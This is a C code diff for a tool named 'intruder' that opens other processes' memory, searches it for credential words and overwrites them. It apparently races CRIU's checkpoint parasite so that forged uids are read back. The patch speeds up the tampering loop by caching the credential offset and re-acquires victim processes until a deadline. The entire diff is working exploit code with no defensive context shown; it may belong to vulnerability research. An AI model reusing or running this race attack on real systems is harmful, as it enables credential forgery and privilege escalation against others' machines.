@@ -9,6 +9,7 @@
 #include <dirent.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <signal.h>
 #include <sys/inotify.h>
 #include <sys/stat.h>
 
@@ -96,16 +97,21 @@ static unsigned overwrite(const struct victim *v, off_t at, bool uids) {
         return hits;
 }
 
-/* Again and again, until the region is gone: the parasite writes what it finds out, and CRIU reads it a moment later. */
+/* Again and again, until the region is gone: the parasite writes what it finds out, and CRIU reads it a moment later. Where that was found
+ * once it is each time, so from then on only that place is looked at, which takes no longer than CRIU. */
 static unsigned long long tamper_region(const struct victim *v, unsigned long start, unsigned long end, bool uids) {
         static uint32_t words[REGION_MAX / 4];
+        static unsigned long known; /* offset of the credentials; 0: not yet */
         unsigned long long hits = 0;
         ssize_t bytes;
 
-        while ((bytes = pread(v->mem_fd, words, end - start, (off_t) start)) > 0)
+        while ((bytes = pread(v->mem_fd, words, known ? CREDENTIAL_WORDS * 4 : end - start, (off_t) (start + known))) > 0)
                 for (long i = 0; i + CREDENTIAL_WORDS <= bytes / 4; i++)
-                        if (is_credentials(words + i))
-                                hits += overwrite(v, (off_t) (start + (unsigned long) i * 4), uids);
+                        if (is_credentials(words + i)) {
+                                known += (unsigned long) i * 4;
+                                hits += overwrite(v, (off_t) (start + known), uids);
+                                break;
+                        }
         return hits;
 }
 
@@ -129,17 +135,34 @@ static unsigned long long tamper_once(const struct victim *v, bool uids) {
         return hits;
 }
 
+static void forget_victims(struct victim *victims, int n) {
+        for (int i = 0; i < n; i++) {
+                (void) close(victims[i].mem_fd);
+                free(victims[i].maps_before);
+        }
+}
+
 static int tamper(const char *name, const char *what, int seconds) {
         struct victim victims[PROCESSES_MAX];
-        int n = find_victims(name, victims);
         int64_t end = now_usec() + seconds * 1000000;
         unsigned long long hits = 0;
+        bool told = false;
 
-        printf("intruder: watches %d processes\n", n);
-        (void) fflush(stdout);
-        while (n > 0 && now_usec() < end)
-                for (int i = 0; i < n; i++)
-                        hits += tamper_once(&victims[i], strcmp(what, "uids") == 0);
+        while (now_usec() < end) {
+                int n = find_victims(name, victims);
+
+                if (n > 0 && !told) {
+                        printf("intruder: watches %d processes\n", n);
+                        (void) fflush(stdout);
+                        told = true;
+                }
+                while (n > 0 && now_usec() < end && kill(victims[0].pid, 0) == 0)
+                        for (int i = 0; i < n; i++)
+                                hits += tamper_once(&victims[i], strcmp(what, "uids") == 0);
+                forget_victims(victims, n);
+                if (n == 0)
+                        pause_usec(20000);
+        }
         printf("intruder: wrote %llu times\n", hits);
         return 0;
 }
